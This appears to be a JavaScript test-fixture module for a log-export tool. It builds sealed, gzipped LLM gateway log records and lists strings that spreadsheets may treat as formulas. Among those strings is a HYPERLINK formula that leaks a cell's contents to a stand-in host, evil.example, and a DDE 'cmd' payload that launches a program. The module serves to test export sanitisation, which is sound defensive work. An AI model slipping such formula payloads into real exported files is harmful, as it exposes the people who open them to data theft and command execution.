// Records for exports: what is hard for each form, sealed by node:crypto, with what must come of it by hand.
import fs from "node:fs";
import path from "node:path";
import zlib from "node:zlib";
import { keyFile, sealer } from "../page/fixtures.mjs";
import { folder } from "./run.mjs";

export const key = keyFile("rsa2048.pem");

/** The time that this name has, in the column `time`. */
export const WINDOW = "2026-04-18T00:02:10Z";
export const NAME = "20260418T000210Z_20260418T000243Z_a1.log.gz";
export const SECRET = "sk-very-secret";

const openAi = (/** @type {string} */ question, /** @type {string} */ answer) => ({
  request: JSON.stringify({ model: "gpt-4o", messages: [{ role: "user", content: question }], temperature: 0.5 }),
  response: JSON.stringify({
    id: "chatcmpl-1",
    model: "gpt-4o-2024-08-06",
    choices: [{ index: 0, message: { role: "assistant", content: answer }, finish_reason: "stop" }],
    usage: { prompt_tokens: 1000, completion_tokens: 200, total_tokens: 1200 },
  }),
});

/** Texts that spreadsheets, Markdown and readers of tables may take for something else. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1+1",
  "'=already",
  "''@twice",
];
export const HARMLESS = [
  "-5",
  "+4.25e3",
  "'quoted'",
  "a=b",
  "1-2",
  'say "no", twice',
  "two\r\nlines",
  " ",
  "日本語 🎣",
  "\u0000nul",
];

/**
 * A record: its plain fields as JSON, and what is sealed in it.
 *
 * @typedef {{ plain: string, metadata?: string, request?: string | Buffer, response?: string | Buffer }} Sealed
 */

/** @type {Record<string, Sealed>} */
export const RECORDS = {
  ordinary: {
    plain: '"Provider":"openai","Model":"gpt-4o","StatusCode":200,"Cached":false,"Endpoint":"v1/chat/completions"',
    metadata: '{"team":"blue","id":12345678901234567890,"ratio":1.10}',
    ...openAi("Which knot?", "A bowline."),
  },
  // Digits that a double cannot hold, a name with a dot, and objects.
  digits: {
    plain:
      '"Provider":"openai","Big":12345678901234567890,"a.b":"dotted","Outer":{"inner":{"deep":1.0}},"Empty":"","Null":null',
    metadata: "not JSON",
    ...openAi("", "Two."),
  },
  universal: {
    plain: '"Provider":"openai","Model":"gpt-4o","StatusCode":200,"Cached":true',
    request: JSON.stringify([
      {
        provider: "openai",
        endpoint: "chat/completions",
        headers: { Authorization: `Bearer ${SECRET}`, "cf-x": SECRET },
        query: { model: "gpt-4o", messages: [{ role: "user", content: "Ahoy" }] },
      },
    ]),
    response: openAi("", "Ahoy yourself").response,
  },
  failed: {
    plain: '"Provider":"anthropic","Model":"claude-sonnet-4-6","StatusCode":429',
    request: '{"model":"claude-sonnet-4-6","max_tokens":9,"messages":[{"role":"user","content":"Hello"}]}',
    response: '{"type":"error","error":{"type":"rate_limit_error","message":"Slow down."}}',
  },
  bytes: {
    plain: '"Provider":"openai"',
    request: Buffer.from([0xff, 0xfe, 0x00]),
    response: "plain text\r\nof two lines",
  },
  // A record in a wrapper, and one without anything.
  wrapped: { plain: '"time":1,"stream":"stdout","log":{"Provider":"constructor","Gateway":"inner"}' },
  bare: { plain: "" },
};

/**
 * Writes a log of records, each on a line of its own.
 *
 * @param {Sealed[]} records
 * @param {string} [name]
 */
export function writeLog(records, name = NAME) {
  const seal = sealer("rsa2048.pem");
  const lines = records.map(({ plain, metadata, request, response }) => {
    const members = plain === "" ? [] : [plain];
    if (metadata !== undefined) members.push(`"Metadata":${seal(metadata)}`);
    if (request !== undefined) members.push(`"RequestBody":${seal(request)}`);
    if (response !== undefined) members.push(`"ResponseBody":${seal(response)}`);
    return `{${members.join(",")}}\n`;
  });
  const file = path.join(folder(), name);
  fs.writeFileSync(file, zlib.gzipSync(lines.join("")));
  return file;
}

/** One record for each text, which is its question, its answer and the plain field `Note`. */
export const spoken = (/** @type {string[]} */ texts) =>
  texts.map((text) => ({ plain: `"Provider":"openai","Note":${JSON.stringify(text)}`, ...openAi(text, text) }));
